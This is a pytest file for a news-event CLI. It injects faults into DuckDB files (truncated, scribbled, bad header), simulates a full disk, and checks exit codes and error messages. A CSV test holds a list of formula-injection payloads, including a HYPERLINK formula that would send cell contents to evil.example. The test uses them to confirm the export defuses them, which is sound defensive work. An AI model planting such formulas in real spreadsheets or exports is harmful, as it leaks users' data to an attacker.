"""Disk and database faults, exit codes and CSV from the command line (issue 20, findings 7-8).

Every database here is written through the Store API in the test, then damaged in the test
(truncated, blocks overwritten, header overwritten); the full disk is a real one for DuckDB: a
child process with a file-size limit (RLIMIT_FSIZE), so DuckDB's own write fails.
"""

from __future__ import annotations

import csv
import io
import os
import random
import shutil
import subprocess
import sys
import textwrap
from datetime import date
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result

from newsevents.cli import EXIT_OK, EXIT_RUN_FAILED, EXIT_SOME_FAILED, EXIT_USAGE, main
from newsevents.csv_safe import safe_cell, to_csv
from newsevents.errors import DatabaseDamagedError, StoreError
from newsevents.model import (
    Actor,
    Article,
    Entity,
    Event,
    Mention,
    Span,
    Speaker,
    Statement,
    make_id,
)
from newsevents.store import Store, check_database
from newsevents.web import create_app

BLOCK = 256 * 1024  # DuckDB's block size: each block carries its own checksum
HEADER = 3 * 4096  # the file header and the two database headers


def article(n: int, title: str | None = None, said: str | None = None) -> Article:
    """A small article with an entity, a statement and an event (offsets into its text)."""
    content = said or f"the talks on the border would go on ({n})"
    text = f"Jane Roe said {content}. Police arrested {n} protesters in Vienna."
    who = Span(0, 8, "Jane Roe")
    entity = Entity(
        make_id("entity", "PERSON", "Jane Roe"), "Jane Roe", "PERSON", (Mention(0, 8, "Jane Roe"),)
    )
    start = text.index(content)
    statement = Statement(
        id=make_id("statement", n),
        kind="indirect",
        speaker=Speaker(who.text, who.start, who.end, "Jane Roe", entity_id=entity.id),
        cue=Span(9, 13, "said"),
        content=Span(start, start + len(content), content),
        date=date(2025, 1, n % 28 + 1),
        cue_class="assert",
        confidence=0.9,
    )
    s0 = text.index("Police")
    event = Event(
        id=make_id("event", n),
        cameo="173",
        plover_type="COERCE",
        plover_mode=None,
        quad_class=4,
        goldstein=-5.0,
        source=Actor("Police", s0, s0 + 6, "Police", code="COP"),
        target=None,
        trigger=Span(s0 + 7, s0 + 15, "arrested"),
        sentence_start=s0,
        sentence_end=len(text),
        date=date(2025, 1, n % 28 + 1),
        location=None,
        modality="asserted",
        attributed_to=None,
        confidence=0.8,
    )
    return Article(
        id=make_id("article", n),
        source_path=f"story-{n}.txt",
        text=text + " " + "More words of the story follow here. " * 20,
        title=title or f"Story {n}",
        published=date(2025, 1, n % 28 + 1),
        language="en",
        entities=(entity,),
        statements=(statement,),
        events=(event,),
    )


def build(path: Path, n: int = 600, batch: int = 100) -> Path:
    """Write ``n`` articles in batches of ``batch`` into a new database at ``path``."""
    with Store(path) as store:
        for first in range(0, n, batch):
            store.write([article(i) for i in range(first, min(n, first + batch))])
    return path


@pytest.fixture(scope="module")
def good_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sound database of 600 articles (several DuckDB blocks), never damaged itself."""
    return build(tmp_path_factory.mktemp("faults") / "good.duckdb")


def truncated(src: Path, dst: Path) -> Path:
    """A copy of ``src`` cut to half its size."""
    shutil.copy(src, dst)
    os.truncate(dst, dst.stat().st_size // 2)
    return dst


def scribbled(src: Path, dst: Path, seed: int = 20, spared: int = 0) -> Path:
    """A copy of ``src`` with 4 KiB of random bytes written at a random place in every block
    but the first ``spared`` (the catalogue is in the first: sparing it, the file opens)."""
    shutil.copy(src, dst)
    rng = random.Random(seed)
    size = dst.stat().st_size
    with dst.open("r+b") as f:
        for block in range(HEADER + spared * BLOCK, size, BLOCK):
            f.seek(block + rng.randrange(0, min(BLOCK, size - block) - 4096 + 1))
            f.write(rng.randbytes(4096))
    return dst


def bad_header(src: Path, dst: Path) -> Path:
    """A copy of ``src`` whose first 4 KiB (the file header) are random."""
    shutil.copy(src, dst)
    with dst.open("r+b") as f:
        f.write(random.Random(7).randbytes(4096))
    return dst


def scribbled_data(src: Path, dst: Path) -> Path:
    """Random bytes in every data block: the file opens, and reading the rows fails."""
    return scribbled(src, dst, spared=2)


DAMAGES = {
    "truncated": truncated,
    "scribbled": scribbled,
    "scribbled-data": scribbled_data,
    "bad-header": bad_header,
}


@pytest.fixture(params=sorted(DAMAGES))
def damaged_db(request: pytest.FixtureRequest, good_db: Path, tmp_path: Path) -> Path:
    """The good database, damaged one way (a fresh copy for each test)."""
    return DAMAGES[request.param](good_db, tmp_path / f"{request.param}.duckdb")


def run(*args: str) -> Result:
    """Run the command line in-process."""
    return CliRunner().invoke(main, list(args))


def assert_one_line_run_failure(result: Result, db: Path, *, advice: str) -> None:
    """Exit 3, one ``Error:`` line naming the file and what to do, and no traceback."""
    assert result.exit_code == EXIT_RUN_FAILED, result.output
    assert "Traceback" not in result.output and "cannot rollback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.output
    assert str(db) in errors[0] and advice in errors[0], errors[0]


# -- damaged databases -----------------------------------------------------------------------


@pytest.mark.parametrize("command", ["stats", "statements", "events"])
def test_damaged_database_is_one_line_and_exit_3(command: str, damaged_db: Path) -> None:
    result = run(command, "--db", str(damaged_db))
    assert_one_line_run_failure(result, damaged_db, advice="newsevents check")
    assert "[E301]" in result.output and "restore it from a copy" in result.output


def test_process_into_a_damaged_database_is_one_line_and_exit_3(
    damaged_db: Path, tmp_path: Path
) -> None:
    text = tmp_path / "story-2025-01-02.txt"
    text.write_text("The minister said the talks would go on in Vienna next week.\n")
    result = run("process", str(text), "--db", str(damaged_db), "--workers", "1", "-q")
    assert_one_line_run_failure(result, damaged_db, advice="restore it from a copy")


def test_serve_refuses_a_damaged_database(
    damaged_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import uvicorn

    def must_not_start(*args: object, **kwargs: object) -> None:
        raise AssertionError("serve started on a damaged database")

    monkeypatch.setattr(uvicorn, "run", must_not_start)
    result = run("serve", "--db", str(damaged_db), "--port", "8999")
    assert_one_line_run_failure(result, damaged_db, advice="restore it from a copy")
    with pytest.raises(DatabaseDamagedError):
        create_app(damaged_db)


def test_check_reports_damage_and_exits_3(damaged_db: Path) -> None:
    result = run("check", "--db", str(damaged_db))
    assert result.exit_code == EXIT_RUN_FAILED, result.output
    assert "Traceback" not in result.output
    assert "DAMAGED" in result.output and "restore it from a copy" in result.output
    report = check_database(damaged_db)
    assert not report.ok


def test_check_passes_a_sound_database(good_db: Path) -> None:
    result = run("check", "--db", str(good_db))
    assert result.exit_code == EXIT_OK, result.output
    assert "articles" in result.output and "600" in result.output and "OK" in result.output
    report = check_database(good_db)
    assert report.ok and {t.table: t.rows for t in report.tables}["statements"] == 600


def test_check_counts_rows_whose_article_is_missing(good_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "orphans.duckdb"
    shutil.copy(good_db, db)
    with duckdb.connect(str(db)) as con:
        con.execute(
            'INSERT INTO mentions (article_id, entity_id, start, "end", text) '
            "VALUES ('nope', 'e', 0, 1, 'x')"
        )
    result = run("check", "--db", str(db))
    assert result.exit_code == EXIT_OK, result.output
    assert "1 rows whose article is missing" in result.output


def test_check_of_a_missing_database_is_a_usage_error(tmp_path: Path) -> None:
    assert run("check", "--db", str(tmp_path / "none.duckdb")).exit_code == EXIT_USAGE


def test_web_answers_503_when_a_read_fails(good_db: Path) -> None:
    from fastapi.testclient import TestClient

    app = create_app(good_db)

    def damaged(*args: object, **kwargs: object) -> None:
        raise DatabaseDamagedError(f"the database {good_db} is damaged (checksum)")

    app.state.queries.events = damaged
    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.get("/api/events")
    assert answer.status_code == 503
    body = answer.json()
    assert body["ok"] is False and "newsevents check" in body["error"]
    assert str(good_db.parent) not in body["error"]  # the server's paths are not shown


# -- a full disk --------------------------------------------------------------------------------

FULL_DISK = textwrap.dedent(
    """
    import resource, signal, sys
    sys.path.insert(0, {tests!r})
    from test_hostile_faults import article
    from newsevents.errors import StoreError
    from newsevents.store import Store

    store = Store({db!r})
    store.write([article(i) for i in range(100)])
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
    limit = {limit}
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    done = 1
    try:
        for first in range(100, 20_000, 200):
            store.write([article(i) for i in range(first, first + 200)])
            done += 1
    except StoreError as exc:
        print("ERROR", type(exc).__name__, exc)
    try:
        store.close()
    except StoreError as exc:
        print("CLOSE", type(exc).__name__, exc)
    print("BATCHES", done)
    """
)


def _limited(code: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)


@pytest.mark.skipif(sys.platform != "linux", reason="needs RLIMIT_FSIZE and SIGXFSZ")
def test_full_disk_is_one_line_error_and_earlier_batches_are_intact(tmp_path: Path) -> None:
    db = tmp_path / "full.duckdb"
    tests = str(Path(__file__).parent)
    done = _limited(FULL_DISK.format(tests=tests, db=str(db), limit=1_500_000))
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "cannot rollback" not in done.stderr
    errors = [line for line in done.stdout.splitlines() if line.startswith("ERROR")]
    assert len(errors) == 1, done.stdout
    assert "StoreFullError" in errors[0] and str(db) in errors[0]
    assert "free some space" in errors[0] and "earlier batches are intact" in errors[0]
    batches = int(done.stdout.split("BATCHES")[-1])
    with Store(db, read_only=True) as store:  # the log is replayed: every committed batch
        counts = store.counts()
    stored = 100 + 200 * (batches - 1)
    assert counts["articles"] == counts["statements"] == counts["events"] == stored
    assert check_database(db).ok


PROCESS_FULL = textwrap.dedent(
    """
    import resource, signal, sys
    import py3langid
    from newsevents.cli import main
    py3langid.classify("warm up")  # it unpacks its model into a temporary file once
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
    sys.argv = ["newsevents", "process", {text!r}, "--db", {db!r}, "--workers", "1", "-q",
                "--no-clean"]
    main()
    """
)


@pytest.mark.skipif(sys.platform != "linux", reason="needs RLIMIT_FSIZE and SIGXFSZ")
def test_process_on_a_full_disk_exits_3_with_one_line(tmp_path: Path) -> None:
    db = tmp_path / "full.duckdb"
    Store(db).close()  # the schema fits; the first batch does not
    text = tmp_path / "story-2025-01-02.txt"
    text.write_text(
        " ".join(
            f"Minister {i} said the talks would go on in Vienna on day {i}." for i in range(300)
        )
    )  # about 20 KB of text: its batch needs more than the 4 KiB a file may grow to
    done = _limited(PROCESS_FULL.format(limit=4096, text=str(text), db=str(db)))
    assert done.returncode == EXIT_RUN_FAILED, done.stderr
    assert "Traceback" not in done.stderr and "cannot rollback" not in done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "[E302]" in errors[0] and str(db) in errors[0], done.stderr


def test_a_failed_commit_is_not_rolled_back_again(tmp_path: Path) -> None:
    """DuckDB ends a transaction whose COMMIT fails: the store must not ROLLBACK it again."""
    store = Store(tmp_path / "commit.duckdb")
    real = store.con
    sent: list[str] = []

    class FailingCommit:
        def __getattr__(self, name: str) -> object:
            return getattr(real, name)

        def execute(self, sql: str, *args: object) -> object:
            sent.append(sql.split()[0])
            if sql == "COMMIT":
                real.execute("ROLLBACK")  # what DuckDB does when the commit fails
                raise duckdb.IOException("Failed to commit: No space left on device")
            return real.execute(sql, *args)

    store.con = FailingCommit()  # type: ignore[assignment]
    with pytest.raises(StoreError, match="disk is full"):
        store.write([article(1)])
    assert sent.count("COMMIT") == 1 and "ROLLBACK" not in sent
    store.con = real
    assert store.counts()["articles"] == 0
    store.write([article(1)])  # the store is still usable
    assert store.counts()["articles"] == 1
    store.close()


# -- exit codes ---------------------------------------------------------------------------------


def test_exit_codes(good_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert run("stats", "--db", str(good_db)).exit_code == EXIT_OK
    missing = run("extract", str(tmp_path / "no-such-file.txt"))
    assert missing.exit_code == EXIT_SOME_FAILED, missing.output
    assert run("stats", "--db", str(tmp_path / "none.duckdb")).exit_code == EXIT_USAGE
    assert run("statements", "--since", "yesterday", "--db", str(good_db)).exit_code == EXIT_USAGE

    from newsevents import store as store_module

    def crash(self: Store, top: int = 10) -> None:
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(store_module.Store, "stats", crash)
    bug = run("stats", "--db", str(good_db))
    assert bug.exit_code == EXIT_RUN_FAILED
    assert "internal error (ZeroDivisionError" in bug.output and "report it" in bug.output


def test_a_locked_database_exits_3(good_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "locked.duckdb"
    shutil.copy(good_db, db)
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"import duckdb, sys, time; c = duckdb.connect({str(db)!r}); print('held', flush=True)"
            "; sys.stdin.read()",
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        result = run("stats", "--db", str(db))
        assert_one_line_run_failure(result, db, advice="another newsevents process")
    finally:
        assert holder.stdin is not None
        holder.stdin.close()
        holder.wait(timeout=30)


# -- CSV from the command line -----------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_cli_csv_defuses_formulas_like_the_web(tmp_path: Path) -> None:
    db = tmp_path / "csv.duckdb"
    with Store(db) as store:
        store.write([article(i, title=cell, said=cell) for i, cell in enumerate(HOSTILE, start=1)])
    for command in ("statements", "events"):
        result = run(command, "--db", str(db), "--format", "csv", "--limit", "100")
        assert result.exit_code == EXIT_OK, result.output
        rows = list(csv.DictReader(io.StringIO(result.output)))
        assert len(rows) == len(HOSTILE)
        for row in rows:
            for value in row.values():  # numbers (goldstein -5.0) are no text to defuse
                assert value not in HOSTILE, (command, value)
        titles = sorted(row["title"] for row in rows)
        assert titles == sorted("'" + cell for cell in HOSTILE)
    # one function for both: the web API's CSV of the same rows says the same
    assert safe_cell(HOSTILE[0]) == "'" + HOSTILE[0]
    assert (
        to_csv([{"t": HOSTILE[0]}])
        == 't\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n'
    )


def test_raw_duckdb_and_disk_errors_still_end_in_one_line(
    good_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A safety net for code that reads DuckDB without the store's wrapping, or writes files."""
    from newsevents import store as store_module

    def unwrapped(self: Store, top: int = 10) -> None:
        raise duckdb.Error("Corrupt database file: computed checksum 1 does not match stored 2")

    monkeypatch.setattr(store_module.Store, "stats", unwrapped)
    result = run("stats", "--db", str(good_db))
    assert_one_line_run_failure(result, good_db, advice="newsevents check")

    def full(self: Store, top: int = 10) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(store_module.Store, "stats", full)
    result = run("stats", "--db", str(good_db))
    assert result.exit_code == EXIT_RUN_FAILED and "Traceback" not in result.output
    assert "the disk is full" in result.output and "free some space" in result.output


def test_ctrl_c_exits_130_not_1(good_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """1 means "some inputs failed"; an interrupted run must not look like that."""
    from newsevents import store as store_module

    def interrupted(self: Store, top: int = 10) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(store_module.Store, "stats", interrupted)
    result = run("stats", "--db", str(good_db))
    assert result.exit_code == 130 and "interrupted" in result.output


def test_a_sound_file_with_free_blocks_trimmed_is_not_damaged(tmp_path: Path) -> None:
    """Regression: DuckDB truncates free blocks at the end of a file, so a sound database can
    be shorter than all the blocks its header counts; it opened as "cut short" on the fourth
    small run into a new file."""
    path = tmp_path / "runs.duckdb"
    for run in range(6):
        with Store(path) as store:
            store.write([article(run * 2), article(run * 2 + 1)])
    with Store(path, read_only=True) as store:
        assert store.stats().counts["articles"] == 12
